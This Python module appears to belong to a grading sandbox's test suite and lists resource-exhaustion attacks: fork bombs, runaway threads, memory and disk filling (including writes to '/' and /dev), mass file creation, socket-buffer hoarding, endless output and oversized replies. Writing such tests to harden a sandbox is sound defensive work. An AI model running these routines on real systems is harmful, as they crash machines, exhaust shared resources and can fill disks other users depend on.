"""Attacks that use too much of something: memory, disk, processes, output, time."""

from grading.attacks.attack import of_answer, of_notebook


def forks_without_end():
    import os

    while True:
        os.fork()


def starts_a_million_threads():
    import threading

    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()


def eats_memory():
    eaten = []
    while True:
        eaten.append(bytearray(b"x") * (256 << 20))


def eats_memory_in_children():
    import os

    for _ in range(16):
        if os.fork() == 0:
            eaten = []
            while True:
                eaten.append(bytearray(b"x") * (64 << 20))
    os.wait()


def fills_the_disk():
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/dev", "/"):
        try:
            for i in range(10_000):
                with open(f"{folder}/filler{i}", "wb") as file:
                    file.write(bytes(256 << 20))
                if i > 40:
                    print("GOT 10 GiB of", folder)
                    break
        except OSError:
            pass


def prints_without_end():
    while True:
        print("x" * 10_000)


def prints_50_megabytes():
    print("x" * (50 << 20))


def loops_without_end():
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass


def fills_the_buffers_of_sockets():
    """Keep gigabytes in sockets that nobody reads: no process is charged for what is on its way."""
    import socket

    kept = []
    while len(kept) < 20_000:
        pair = socket.socketpair()
        for end in pair:
            end.setblocking(False)
            try:
                while True:
                    end.send(b"x" * 65536)
            except BlockingIOError:
                pass
        kept += pair
    print("GOT", len(kept), "full sockets")


def makes_a_million_empty_files():
    for i in range(1_000_000):
        open(f"/tmp/{i}", "w").close()
    print("GOT a million files")


def hands_in_100_megabytes():
    payload = bytes(100 << 20)
    globals()["plan_buckets"] = lambda *_, **__: [len(payload)]


def nests_its_reply_without_end(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    nested = []
    for _ in range(100_000):
        nested = [nested]
    return nested


def replies_a_gigabyte(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    return "x" * (1 << 30)


def hangs_the_rank(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    import time

    while True:
        time.sleep(60)


def forks_without_end_on_the_rank(sizes_bytes, ready_s, world_size, latency_s, bandwidth_bytes_per_s):
    import os

    while True:
        os.fork()


ATTACKS = [
    *of_notebook(
        forks_without_end,
        starts_a_million_threads,
        eats_memory,
        eats_memory_in_children,
        fills_the_disk,
        fills_the_buffers_of_sockets,
        makes_a_million_empty_files,
        prints_without_end,
        prints_50_megabytes,
        loops_without_end,
        hands_in_100_megabytes,
    ),
    *of_answer(nests_its_reply_without_end, replies_a_gigabyte, hangs_the_rank, forks_without_end_on_the_rank),
]
